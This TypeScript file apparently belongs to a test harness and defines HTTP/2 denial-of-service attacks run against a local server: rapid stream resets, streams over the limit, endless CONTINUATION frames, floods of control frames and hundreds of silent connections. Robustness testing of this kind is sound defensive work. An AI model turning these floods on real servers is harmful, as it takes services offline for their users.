import { connect as connectHttp2, constants } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { frame } from '../../../src/testing/http2-frames.ts';
import { type Attack, repeat, type Target } from '../attack.ts';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** Frame types (RFC 9113, section 6). */
const [data, headers, priority, settings, ping, windowUpdate, continuation] = [0, 1, 2, 4, 6, 8, 9];

/** `:method: POST`, `:scheme: http`, `:path: /` in HPACK's static table. */
const request = Buffer.of(0x83, 0x86, 0x84);
const opened = [preface, frame(settings, 0, 0)];

/** Opens and resets streams on many connections, with or without a body. */
function rapidReset(name: string, { atOnce, body }: { atOnce: number; body: Uint8Array }): Attack {
  return {
    name,
    onPostgres: true,
    run: async ({ api }) => {
      repeat(16, () => resetUntilClosed(api, atOnce, body));
    },
  };
}

async function resetUntilClosed(port: number, atOnce: number, body: Uint8Array): Promise<void> {
  const session = connectHttp2(`http://127.0.0.1:${port}`);
  const { promise, resolve } = Promise.withResolvers<undefined>();
  session.on('error', () => undefined);
  session.on('close', () => {
    resolve(undefined);
  });
  const round = (): void => {
    if (session.destroyed || session.closed) return;
    for (let i = 0; i < atOnce; i++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': '/coreos.clair.AncestryService/PostAncestry',
      });
      stream.on('error', () => undefined);
      stream.write(body);
      stream.close(constants.NGHTTP2_CANCEL);
    }
    setImmediate(round);
  };
  session.on('connect', round);
  await promise;
}

/** Opens more streams than allowed, and keeps them open. */
const manyStreams: Attack = {
  name: 'HTTP/2: streams over the limit',
  run: async ({ api }) => {
    repeat(16, () =>
      flood(api, (socket) => {
        for (let stream = 1; stream < 2000; stream += 2)
          if (!socket.destroyed) socket.write(frame(headers, 4, stream, request));
      }),
    );
  },
};

/** Sends the same frames as fast as the server reads them, on several connections. */
function frames(name: string, bytes: readonly Uint8Array[]): Attack {
  const piece = Buffer.concat(Array.from({ length: 200 }, () => bytes).flat());
  return {
    name: `HTTP/2: ${name}`,
    run: async ({ api }: Target) => {
      repeat(4, () =>
        flood(api, (socket) => {
          const more = (): void => {
            while (!socket.destroyed && socket.write(piece));
          };
          socket.on('drain', more);
          more();
        }),
      );
    },
  };
}

/** Opens an HTTP/2 connection and waits until the server closes it. */
async function flood(port: number, begin: (socket: Socket) => void): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<undefined>();
  const socket = connect(port, '127.0.0.1', () => {
    socket.write(Buffer.concat(opened));
    begin(socket);
  });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    resolve(undefined);
  });
  socket.resume();
  await promise;
}

/** HTTP/2 connections that send nothing after the preface. */
const silent: Attack = {
  name: 'HTTP/2: 500 silent connections',
  run: async ({ api }) => {
    repeat(500, () => flood(api, () => undefined));
  },
};

const noHeader = frame(headers, 0, 1, request);

export const http2Attacks: readonly Attack[] = [
  rapidReset('HTTP/2: rapid reset', { atOnce: 20, body: Buffer.alloc(0) }),
  rapidReset('HTTP/2: rapid reset with bodies', { atOnce: 20, body: Buffer.alloc(16 * 1024) }),
  manyStreams,
  silent,
  frames('endless CONTINUATION', [noHeader, ...Array.from({ length: 50 }, () => frame(continuation, 0, 1))]),
  frames('SETTINGS', [frame(settings, 0, 0)]),
  frames('PING', [frame(ping, 0, 0, Buffer.alloc(8))]),
  frames('PRIORITY', [frame(priority, 0, 3, Buffer.of(0, 0, 0, 1, 16))]),
  frames('empty DATA', [frame(headers, 4, 1, request), frame(data, 0, 1)]),
  frames('WINDOW_UPDATE', [frame(windowUpdate, 0, 0, Buffer.of(0, 0, 0, 1))]),
  frames('unknown frames', [frame(0xbe, 0, 0, Buffer.alloc(64))]),
];
